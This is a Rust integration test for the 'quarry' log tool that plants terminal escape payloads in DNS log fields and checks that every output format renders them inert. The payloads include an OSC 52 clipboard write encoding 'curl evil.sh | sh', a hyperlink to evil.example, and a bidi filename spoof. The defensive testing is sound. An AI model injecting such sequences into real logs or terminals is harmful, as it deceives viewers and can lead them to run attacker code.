//! Escape payloads planted in log fields arrive inert on the terminal through the real
//! binary: in table, CSV and JSON output of `quarry sql`, and in hunt results.

use assert_cmd::Command;

/// Field values an attacker may plant: title change, clipboard write (OSC 52), hyperlink,
/// screen clear and colour, 8-bit CSI, DCS, bidi override.
const PAYLOADS: &[&str] = &[
    "\u{1b}]0;pwned\u{7}",
    "\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}",
    "\u{1b}]8;;http://evil.example/\u{1b}\\click\u{1b}]8;;\u{1b}\\",
    "\u{1b}[2J\u{1b}[31mred",
    "\u{9b}2J",
    "\u{1b}P+q544e\u{1b}\\",
    "admin\u{202e}fdp.exe",
];

fn dangerous(c: char) -> bool {
    ((c as u32) < 0x20 && c != '\n')
        || ('\u{7f}'..='\u{9f}').contains(&c)
        || ('\u{202a}'..='\u{202e}').contains(&c)
        || ('\u{2066}'..='\u{2069}').contains(&c)
}

#[test]
fn planted_escapes_are_inert_in_every_output_format() {
    let dir = tempfile::tempdir().unwrap();
    let csv = dir.path().join("dns.csv");
    let mut text = String::from("TimeGenerated,ClientIP,Name,QueryType\n");
    for (i, p) in PAYLOADS.iter().enumerate() {
        let field = format!("\"{}\"", p.replace('"', "\"\""));
        text.push_str(&format!("2025-11-20T10:00:0{i}Z,10.0.0.{i},{field},A\n"));
    }
    std::fs::write(&csv, text).unwrap();
    let db = dir.path().join("case.duckdb");
    Command::cargo_bin("quarry")
        .unwrap()
        .arg("--db")
        .arg(&db)
        .arg("load")
        .arg(&csv)
        .assert()
        .success();
    for format in ["table", "csv", "json"] {
        let out = Command::cargo_bin("quarry")
            .unwrap()
            .arg("--db")
            .arg(&db)
            .args([
                "sql",
                "SELECT Name FROM DnsEvents ORDER BY TimeGenerated",
                "--format",
                format,
            ])
            .output()
            .unwrap();
        assert!(out.status.success());
        let stdout = String::from_utf8(out.stdout).unwrap();
        // The text around the sequences survives.
        assert!(
            stdout.contains("fdp.exe") && stdout.contains("red"),
            "{format}: {stdout}"
        );
        assert!(
            !stdout.chars().any(dangerous),
            "{format} output carries a raw control: {stdout:?}"
        );
    }
    let out = Command::cargo_bin("quarry")
        .unwrap()
        .arg("--db")
        .arg(&db)
        .args(["kql", "DnsEvents | project Name"])
        .output()
        .unwrap();
    let stdout = String::from_utf8(out.stdout).unwrap();
    assert!(
        stdout.contains("fdp.exe") && !stdout.chars().any(dangerous),
        "{stdout:?}"
    );
}
